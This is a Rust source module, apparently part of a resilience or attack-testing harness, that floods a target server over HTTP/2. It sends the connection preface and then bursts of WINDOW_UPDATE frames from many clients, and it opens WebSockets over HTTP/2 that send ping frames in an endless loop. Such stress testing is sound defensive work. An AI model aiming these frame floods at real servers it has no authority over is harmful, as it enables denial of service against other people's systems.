//! HTTP/2 connections of attackers, and floods of frames on them.

use std::future::poll_fn;

use anyhow::{Context, ensure};
use bytes::Bytes;
use futures_util::future::join_all;
use h2::client::{Builder, SendRequest};
use h2::ext::Protocol;
use h2::{RecvStream, SendStream};
use hyper::{Method, Request, StatusCode};
use tokio::task::{spawn_local, yield_now};

use super::Scene;
use super::websocket::{Flood, stream_with};
use crate::client::tcp;
use crate::frames::{PING, client_frame};

/// The beginning of a connection, and SETTINGS without a setting (RFC 9113, §3.4 and §6.5).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// A window that grows by one byte: of the connection (RFC 9113, §6.9).
const WINDOW_UPDATE: &[u8] = b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01";
const FRAMES_AT_ONCE: usize = 5_000;

/// Sends `WINDOW_UPDATE` at full speed.
pub(super) async fn window_updates(scene: &Scene) -> anyhow::Result<()> {
    let then = vec![WINDOW_UPDATE.repeat(FRAMES_AT_ONCE)];
    let flood = &Flood { first: PREFACE.to_vec(), then, counts: FRAMES_AT_ONCE as u64 };
    let client = |number| {
        scene.again(move || async move {
            let stream = scene.server.over(tcp(scene.server.address, number).await?).await?;
            stream_with(scene, stream, flood).await
        })
    };
    join_all((0..scene.clients).map(client)).await;
    Ok(())
}

/// Pings inside of a WebSocket on a stream, each in a DATA frame of its own, at full speed.
pub(super) async fn stream_pings(scene: &Scene) -> anyhow::Result<()> {
    let ping = &Bytes::from(client_frame(PING, b""));
    let client = |number| {
        scene.again(move || async move {
            let mut connection = connect(scene, number, 1024 * 1024).await?;
            let (mut send, mut receive) = websocket(&mut connection).await?;
            let writing = async {
                loop {
                    send_all(&mut send, ping.clone()).await?;
                    scene.add(1);
                }
            };
            let reading = async {
                while let Some(data) = receive.data().await {
                    receive.flow_control().release_capacity(data?.len())?;
                }
                Ok(())
            };
            tokio::select! {
                result = writing => result,
                result = reading => result,
            }
        })
    };
    join_all((0..scene.clients).map(client)).await;
    Ok(())
}

/// Opens a connection whose streams' windows begin with this many bytes.
pub(super) async fn connect(scene: &Scene, number: usize, window_bytes: u32) -> anyhow::Result<SendRequest<Bytes>> {
    let stream = scene.server.over(tcp(scene.server.address, number).await?).await?;
    let mut builder = Builder::new();
    builder.enable_push(false).initial_window_size(window_bytes);
    let (sender, connection) = builder.handshake(stream).await.context("set up HTTP/2")?;
    // Its end is seen on each of its streams.
    spawn_local(async move { drop(connection.await) });
    Ok(sender)
}

/// Opens a WebSocket (RFC 8441) once the server has said that it may be.
async fn websocket(connection: &mut SendRequest<Bytes>) -> anyhow::Result<(SendStream<Bytes>, RecvStream)> {
    while !connection.is_extended_connect_protocol_enabled() {
        poll_fn(|cx| connection.poll_ready(cx)).await?;
        yield_now().await;
    }
    let request = Request::builder()
        .method(Method::CONNECT)
        .uri("http://localhost/websocket")
        .extension(Protocol::from_static("websocket"))
        .header("sec-websocket-version", "13")
        .body(())?;
    let (response, send) = connection.send_request(request, false)?;
    let response = response.await?;
    ensure!(response.status() == StatusCode::OK, "refused: {}", response.status());
    Ok((send, response.into_body()))
}

/// Sends as the server's window allows, so that nothing piles up on this side.
pub(super) async fn send_all(send: &mut SendStream<Bytes>, mut bytes: Bytes) -> anyhow::Result<()> {
    while !bytes.is_empty() {
        send.reserve_capacity(bytes.len());
        let capacity = poll_fn(|cx| send.poll_capacity(cx)).await.context("the stream is closed")??;
        send.send_data(bytes.split_to(capacity.min(bytes.len())), false)?;
    }
    Ok(())
}
